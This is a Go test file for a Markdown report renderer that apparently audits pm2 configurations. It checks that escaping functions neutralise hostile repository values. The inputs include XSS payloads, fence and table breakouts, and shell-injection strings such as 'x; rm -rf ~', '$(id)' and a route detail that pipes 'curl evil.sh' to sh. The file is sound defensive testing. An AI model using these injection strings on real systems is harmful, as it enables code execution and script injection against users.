package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"strings"
	"testing"
	"text/template"
	"unicode/utf8"

	"github.com/auditbot/auditbot/audit"
	"github.com/auditbot/auditbot/audit/message"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// hostile are values a pull request can put in file names, option values,
// commit subjects and source lines.
var hostile = []string{
	"plain",
	"a|b|c",
	"`tick` and ``double`` and ```triple```",
	"`",
	"ends with `",
	"@alice and @org/team-x please",
	"fixes #123 and GH-4",
	"<script>alert(1)</script> & <img src=x onerror=alert(1)>",
	"</details><details><summary>x",
	"line1\nline2\r\n## injected heading",
	"- list\n1. item",
	"1. starts like a list",
	"# heading",
	"*emph* _u_ [link](javascript:alert(1)) ![img](x)",
	"back\\slash\\|pipe",
	"  spaces  ",
	"ñandú ¿qué? 😀",
	"\x00\x07control\x1b[31m",
	"invalid \xff utf8",
}

// TestMdCode protects code spans: whatever the value, GFM parses exactly
// one code span holding the value (on one line).
func TestMdCode(t *testing.T) {
	for _, s := range hostile {
		md := "x " + mdCode(s) + " y"
		doc := parseGFM(md)
		var spans []string
		_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			if cs, ok := n.(*ast.CodeSpan); ok && entering {
				spans = append(spans, textOf(cs, []byte(md)))
				return ast.WalkSkipChildren, nil
			}
			return ast.WalkContinue, nil
		})
		want := strings.TrimSpace(oneLine(s))
		if len(spans) != 1 || strings.TrimSpace(spans[0]) != want {
			t.Errorf("mdCode(%q) = %q parses to spans %q, want one span %q", s, mdCode(s), spans, want)
		}
	}
}

// TestMdText protects prose: the value stays literal text in one
// paragraph (no emphasis, link, HTML, heading or list), and mentions and
// issue references are broken.
func TestMdText(t *testing.T) {
	for _, s := range hostile {
		md := mdText(s) + "\n"
		doc := parseGFM(md)
		if doc.ChildCount() > 1 || (doc.FirstChild() != nil && doc.FirstChild().Kind() != ast.KindParagraph) {
			t.Errorf("mdText(%q) = %q makes blocks other than one paragraph", s, mdText(s))
			continue
		}
		_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			switch n.Kind() {
			case ast.KindEmphasis, ast.KindLink, ast.KindImage, ast.KindRawHTML, ast.KindCodeSpan, ast.KindAutoLink:
				t.Errorf("mdText(%q) = %q parses to a %s", s, mdText(s), n.Kind())
			}
			return ast.WalkContinue, nil
		})
		var out bytes.Buffer
		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(md), &out); err != nil {
			t.Fatal(err)
		}
		body := strings.TrimSuffix(strings.TrimPrefix(out.String(), "<p>"), "</p>\n")
		if strings.Contains(body, "<") {
			t.Errorf("mdText(%q) renders HTML tags: %q", s, out.String())
		}
		got := html.UnescapeString(strings.ReplaceAll(body, zwsp, ""))
		if want := oneLine(s); strings.TrimSpace(got) != strings.TrimSpace(want) {
			t.Errorf("mdText(%q) renders %q, want %q", s, got, want)
		}
	}
	if got := mdText("@alice #12"); !strings.Contains(got, "@"+zwsp) || !strings.Contains(got, "#"+zwsp) {
		t.Errorf("mentions not broken: %q", got)
	}
}

// TestMdCellAndFence protects tables and fenced blocks: a hostile cell
// keeps the row at two cells, and a hostile block is never closed early.
func TestMdCellAndFence(t *testing.T) {
	for _, s := range hostile {
		for name, cell := range map[string]string{"cell": mdCell(s), "cellcode": mdCellCode(s), "cellinline": mdCellInline(s)} {
			md := "| A | B |\n|---|---|\n| " + cell + " | end |\n"
			checkRawTables(t, name+" "+s, md)
			doc := parseGFM(md)
			tbl := doc.FirstChild()
			if tbl == nil || tbl.ChildCount() != 2 || tbl.LastChild().ChildCount() != 2 ||
				strings.TrimSpace(textOf(tbl.LastChild().LastChild(), []byte(md))) != "end" {
				t.Errorf("%s(%q) = %q breaks the table", name, s, cell)
			}
		}
		md := mdFence("bash", s+"\n```\n"+s) + "\n\nafter\n"
		doc := parseGFM(md)
		fc, ok := doc.FirstChild().(*ast.FencedCodeBlock)
		if !ok || doc.ChildCount() != 2 {
			t.Errorf("mdFence with %q: %d blocks, want the fence and one paragraph", s, doc.ChildCount())
			continue
		}
		if fc.Lines().Len() < 3 {
			t.Errorf("mdFence with %q lost lines", s)
		}
	}
}

// TestShellQuote protects the commands people copy: a repository value is
// one bash word that expands to exactly the value, on one line.
func TestShellQuote(t *testing.T) {
	unchanged := []string{"session-manager", "ecosystem.config.js", "apps/api/ecosystem.config.cjs", "production"}
	for _, s := range unchanged {
		if got := shellQuote(s); got != s {
			t.Errorf("shellQuote(%q) = %q, want it unquoted", s, got)
		}
	}
	values := append([]string{"a b", "x; rm -rf ~", "it's", "$(id)`id`", "", "api\ntouch /tmp/x\n```",
		"a\r\nb", "a\u2028b\u2029c\u0085d", "\xff\xfe", "tab\there", "\x1b[31mred", "~root", "*", "!!", "a\\b",
		"--flag", "\u202eevil"}, hostile...)
	for _, s := range values {
		q := shellQuote(s)
		if strings.ContainsAny(q, "\n\r\u2028\u2029\u0085") {
			t.Errorf("shellQuote(%q) = %q spans lines", s, q)
		}
		want := strings.ReplaceAll(s, "\x00", "")
		if got, err := shellExpand(q); err != nil || got != want {
			t.Errorf("shellQuote(%q) = %q expands to %q (%v), want the value", s, q, got, err)
		}
	}
}

// shellExpand parses q as one bash word and returns what it expands to.
func shellExpand(q string) (string, error) {
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader("echo "+q+"\n"), "")
	if err != nil {
		return "", err
	}
	if len(f.Stmts) != 1 {
		return "", fmt.Errorf("%d statements", len(f.Stmts))
	}
	call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) != 2 {
		return "", fmt.Errorf("not one word")
	}
	return expand.Literal(nil, call.Args[1])
}

// TestShellComment: a value in a bash comment stays in the comment.
func TestShellComment(t *testing.T) {
	for _, s := range append([]string{"api\ntouch /tmp/x", "a\rb", "a\u2028b"}, hostile...) {
		block := "# Reload " + shellComment(s) + " now\npm2 save\n"
		checkShell(t, "shellComment "+s, block)
		if n := strings.Count(block, "\n"); n != 2 {
			t.Errorf("shellComment(%q) = %q adds lines", s, shellComment(s))
		}
	}
}

// TestHTMLComment: a value cannot end an HTML comment or open a tag.
func TestHTMLComment(t *testing.T) {
	for _, s := range append([]string{"--> <img src=x onerror=alert(1)>", "--!>", "<!-- x", "a\n-->b", "---->"}, hostile...) {
		md := "<!-- auditbot " + htmlComment(s) + " -->\n\ntext\n"
		doc := parseGFM(md)
		if doc.ChildCount() != 2 || doc.FirstChild().Kind() != ast.KindHTMLBlock {
			t.Errorf("htmlComment(%q) = %q: %d blocks", s, htmlComment(s), doc.ChildCount())
		}
		if c := htmlComment(s); strings.ContainsAny(c, "<>\n") || strings.Contains(c, "--") {
			t.Errorf("htmlComment(%q) = %q", s, c)
		}
	}
}

// ourCommands are the commands the report's shell blocks run.
var ourCommands = map[string]bool{"pm2": true, "git": true, "cd": true, "curl": true, "grep": true, "ss": true, "chmod": true, "npm": true, "node": true}

// checkShell parses a bash block as bash does and fails on a command we do
// not write, or on any expansion (a value that became code).
func checkShell(t *testing.T, name, block string) {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(block), "")
	if err != nil {
		t.Errorf("%s: bash block does not parse: %v\n%s", name, err, block)
		return
	}
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.CallExpr:
			if len(x.Args) > 0 {
				if cmd := x.Args[0].Lit(); !ourCommands[cmd] {
					t.Errorf("%s: bash block runs %q, a command the report does not write:\n%s", name, x.Args[0].Lit(), block)
				}
			}
		case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.ParamExp, *syntax.ArithmExp, *syntax.ExtGlob:
			t.Errorf("%s: bash block has an expansion at %s:\n%s", name, n.Pos(), block)
		}
		return true
	})
}

// issueAppName is the app name of issue 9's attack: a line break, a
// command, a fence, raw HTML and a link.
const issueAppName = "api\ntouch /tmp/x\n```\n<img src=x onerror=alert(1)>[click](http://evil.example/)"

// TestHostileAppNameInRollback is issue 9's attack: the app name put
// `touch /tmp/x` on its own line in the rollback block (a bash comment
// printed it raw) and closed the fence, so the rest rendered as Markdown
// with raw HTML and a link.
func TestHostileAppNameInRollback(t *testing.T) {
	doc := loadDoc(t, "seed")
	for i := range doc.Ecosystems {
		e := &doc.Ecosystems[i]
		for _, r := range []*audit.EcoRev{e.Base, e.Head} {
			if r == nil {
				continue
			}
			for a := range r.Apps {
				r.Apps[a].Name = issueAppName
			}
		}
		for c := range e.Changes {
			e.Changes[c].App = issueAppName
		}
	}
	for i := range doc.Services {
		doc.Services[i].App = issueAppName
	}
	for i := range doc.Findings {
		doc.Findings[i].App = issueAppName
	}
	// An app the change removes: section 5 lists it to delete.
	gone := doc.Ecosystems[0].Base.Apps[0]
	gone.Name = issueAppName + " gone"
	doc.Ecosystems[0].Base.Apps = append(doc.Ecosystems[0].Base.Apps, gone)
	for _, lang := range languages {
		out := render(t, doc, Options{Lang: lang, Now: testNow})
		if !strings.Contains(out, "pm2 delete $'api\\ntouch /tmp/x") || !strings.Contains(out, "gone'") {
			t.Errorf("%s: the rollback or the removed app's delete does not quote the name", lang)
		}
		src := []byte(out)
		root := parseGFM(out)
		bash := 0
		_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
			if !entering {
				return ast.WalkContinue, nil
			}
			switch x := n.(type) {
			case *ast.FencedCodeBlock:
				var b strings.Builder
				for i := 0; i < x.Lines().Len(); i++ {
					seg := x.Lines().At(i)
					b.Write(seg.Value(src))
				}
				for _, l := range strings.Split(b.String(), "\n") {
					if strings.HasPrefix(strings.TrimSpace(l), "touch") || strings.HasPrefix(strings.TrimSpace(l), "<img") {
						t.Errorf("%s: a line of the app name is a line of a code block: %q", lang, l)
					}
				}
				if string(x.Language(src)) == "bash" {
					bash++
					checkShell(t, lang, b.String())
				}
			case *ast.RawHTML, *ast.HTMLBlock:
				if strings.Contains(string(n.Text(src)), "img") || n.Kind() == ast.KindRawHTML {
					t.Errorf("%s: raw HTML from the app name: %q", lang, n.Text(src))
				}
			case *ast.Link:
				if strings.Contains(string(x.Destination), "evil") {
					t.Errorf("%s: a link from the app name: %q", lang, x.Destination)
				}
			case *ast.AutoLink:
				t.Errorf("%s: an autolink from the app name: %q", lang, x.URL(src))
			}
			return ast.WalkContinue, nil
		})
		if bash < 3 {
			t.Errorf("%s: %d bash blocks, want the procedure and the rollback", lang, bash)
		}
		checkMarkdown(t, "issue-app/"+lang, out)
	}
}

// hostileDoc is the seed with repository values replaced by hostile ones.
func hostileDoc(t *testing.T) *audit.Document {
	doc := loadDoc(t, "seed")
	evilApp := "evil|app`@alice <b>x</b> #12\n## injected"
	evilPath := "services/```x|y/@bob/ecosystem.config.js"
	doc.Head.Subject = "@org/team <img src=x onerror=alert(1)> fixes #9 | ```"
	for i := range doc.Ecosystems {
		e := &doc.Ecosystems[i]
		if strings.HasSuffix(e.Path, ".js") {
			e.Path = evilPath
			doc.Changed[1].Path = evilPath
			doc.Services[1].Ecosystem = evilPath
		}
		for _, r := range []*audit.EcoRev{e.Base, e.Head} {
			for a := range r.Apps {
				r.Apps[a].Name = evilApp
				r.Apps[a].Options = append(r.Apps[a].Options,
					audit.Option{Key: "args", Value: "```\n</details>\n| x | y |\n@carol", Line: 90},
					audit.Option{Key: "env_prod;rm -rf /", Value: map[string]any{"K": "v"}, Line: 91},
					audit.Option{Key: "secret_thing", Dynamic: true, Secret: true, Source: "process.env.REAL_SECRET_VALUE", Line: 92})
			}
		}
		for c := range e.Changes {
			e.Changes[c].App = evilApp
		}
	}
	for i := range doc.Services {
		doc.Services[i].App = evilApp
		doc.Services[i].Dir = "services/a b;rm"
		doc.Services[i].Evidence = append(doc.Services[i].Evidence,
			audit.Evidence{Kind: "route", Context: "code", Path: "x.js", Line: 3, Detail: "GET /health;curl evil.sh|sh", Text: "app.get('/health;curl', f) // ``` | @dave"},
			audit.Evidence{Kind: "signal-handler", Context: "code", Path: "x|y.js", Line: 4, Detail: "SIGINT|<b>", Text: "`|`"})
	}
	for i := range doc.Findings {
		doc.Findings[i].App = evilApp
		// Every value the finding quotes from the repository, whatever
		// its kind, tries to break out.
		doc.Findings[i].Message.Args = doc.Findings[i].Message.Args.Map(func(_ string, v message.Value) message.Value {
			switch v.Kind {
			case message.Text, message.Code, message.Option, message.Location:
				v.Str = "mensaje con `code|pipe` @erin <i>x</i> #7 y ```"
			}
			return v
		})
		doc.Findings[i].Docs = "javascript:alert(1)"
	}
	doc.Docs = append(doc.Docs, audit.Evidence{Kind: "option-mention", Context: "doc", Path: "docs/<x>|@frank.md", Line: 1, Detail: "wait_ready"})
	return doc
}

// TestHostileDocument renders a document whose repository values try to
// break out of code, tables and fences, mention people, inject HTML and
// inject shell commands, and checks the result as GitHub would parse it.
func TestHostileDocument(t *testing.T) {
	doc := hostileDoc(t)
	// Through JSON too, as the engine hands it over.
	data, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	var back audit.Document
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	for _, lang := range languages {
		md := render(t, &back, Options{Lang: lang, Now: testNow})
		if !utf8.ValidString(md) {
			t.Fatal("invalid UTF-8")
		}
		st := checkMarkdown(t, "hostile/"+lang, md)
		for _, h := range st.headings {
			if strings.Contains(h, "injected") && !strings.Contains(h, "evil") {
				t.Errorf("a value became a heading: %q", h)
			}
		}
		if strings.Contains(md, "REAL_SECRET_VALUE") {
			t.Error("the source of a secret option reached the output")
		}
		for _, f := range st.fenceText["bash"] {
			for _, l := range strings.Split(f, "\n") {
				if strings.Contains(l, "rm -rf") && !strings.Contains(l, "'") {
					t.Errorf("unquoted injected command in a bash block: %q", l)
				}
				if strings.Contains(l, "curl evil") {
					t.Errorf("a hostile route reached a command: %q", l)
				}
			}
		}
		js := strings.Join(st.fenceText["javascript"], "\n")
		if !strings.Contains(js, `args: '`+"```"+`\n</details>\n| x | y |\n@carol'`) {
			t.Errorf("the hostile option value is not intact inside the javascript block")
		}
	}
}

// TestFlattenFences protects one-line places (table cells, inline text):
// a remediation's fenced code becomes one code span, comment lines
// dropped so they cannot swallow the code after them.
func TestFlattenFences(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"no code", "no code"},
		{"Do this:\n\n```js\n{ script: './server.js' }\n```\n\nthen that.", "Do this:\n\n`{ script: './server.js' }`\n\nthen that."},
		{"```js\nfor (const s of ['SIGINT']) process.on(s, stop);\n// with shutdown_with_message: true\nprocess.on('message', stop);\n```",
			"`for (const s of ['SIGINT']) process.on(s, stop); process.on('message', stop);`"},
		{"```\n// only a comment\n```", ""},
		{"```bash\n# a comment\npm2 delete api\n```", "`pm2 delete api`"},
	} {
		if got := flattenFences(tc.in); got != tc.want {
			t.Errorf("flattenFences(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestListItem protects next steps: code stays a fenced block under the
// list item, text stays escaped and inline.
func TestListItem(t *testing.T) {
	in := "Start it <directly>:\n\n```js\n{ script: './server.js' }\n```\n\nthen apply with `pm2 delete api`."
	want := "Start it &lt;directly&gt;:\n\n   ```js\n   { script: './server.js' }\n   ```\n\n   then apply with `pm2 delete api`."
	if got := mdListItem(in); got != want {
		t.Errorf("mdListItem:\n got %q\nwant %q", got, want)
	}
	if got := mdListItem("one paragraph"); got != "one paragraph" {
		t.Errorf("mdListItem(one paragraph) = %q", got)
	}
}

// TestInlineFence: a remediation with a fenced code block, rendered on one
// line (a risk table cell, a next step), shows the block's code as one
// code span, without the fence's language tag, and the text around it as
// prose. Before, the tag ran into the code ("`js const server = ...`").
func TestInlineFence(t *testing.T) {
	rem := "Either send the handshake:\n\n```js\nconst server = app.listen(PORT, () => {\n  if (process.send) process.send('ready');\n});\n```\n\nor remove `wait_ready`."
	want := "Either send the handshake:  `const server = app.listen(PORT, () => { if (process.send) process.send('ready'); });`  or remove `wait_ready`."
	if got := mdInline(rem); got != want {
		t.Errorf("mdInline:\n got %s\nwant %s", got, want)
	}
	cell := mdCellInline(rem)
	md := "| A | B |\n|---|---|\n| " + cell + " | end |\n"
	checkRawTables(t, "fence in a cell", md)
	tbl := parseGFM(md).FirstChild()
	if tbl == nil || tbl.ChildCount() != 2 || strings.TrimSpace(textOf(tbl.LastChild().LastChild(), []byte(md))) != "end" {
		t.Errorf("mdCellInline = %q breaks the table", cell)
	}
	// Two blocks, no language tag, text that starts with a fence.
	for _, c := range []struct{ in, want string }{
		{"```\nx = 1\n```", "`x = 1`"},
		{"a\n```yaml\nk: v\n```\nb\n```sh\npm2 delete x\n```", "a `k: v` b `pm2 delete x`"},
		{"unclosed ```js\ncode", "unclosed \\`\\`\\`js code"},
	} {
		if got := mdInline(c.in); got != c.want {
			t.Errorf("mdInline(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestGuardRejectsRawValues protects the rule that templates print
// repository values only through an escaping function: a raw string
// fails the rendering, an escaped one, a number or constant text passes.
func TestGuardRejectsRawValues(t *testing.T) {
	r := &renderer{cat: &catalog{}}
	for _, c := range []struct {
		src string
		ok  bool
	}{
		{`{{.S}}`, false},
		{`{{.L}}`, false},
		{`{{print .S}}`, false},
		{`{{if .S}}{{.S}}{{end}}`, false},
		{`{{range .L}}{{.}}{{end}}`, false},
		{`{{define "x"}}{{.S}}{{end}}{{template "x" .}}`, false},
		{`{{code .S}}`, true},
		{`{{sh .S}} {{shcomment .S}} {{text .S}}`, true},
		{`{{.N}} {{"---"}} {{.M}}`, true},
		{`{{$x := .S}}{{code $x}}`, true},
	} {
		tm := template.Must(template.New("t").Funcs(r.funcs()).Parse(c.src))
		guardTemplates(tm)
		var b strings.Builder
		err := tm.Execute(&b, struct {
			S string
			L []string
			N int
			M md
		}{"a\nb", []string{"x"}, 3, "ok"})
		if (err == nil) != c.ok {
			t.Errorf("%s: err = %v, want ok=%v", c.src, err, c.ok)
		}
	}
}
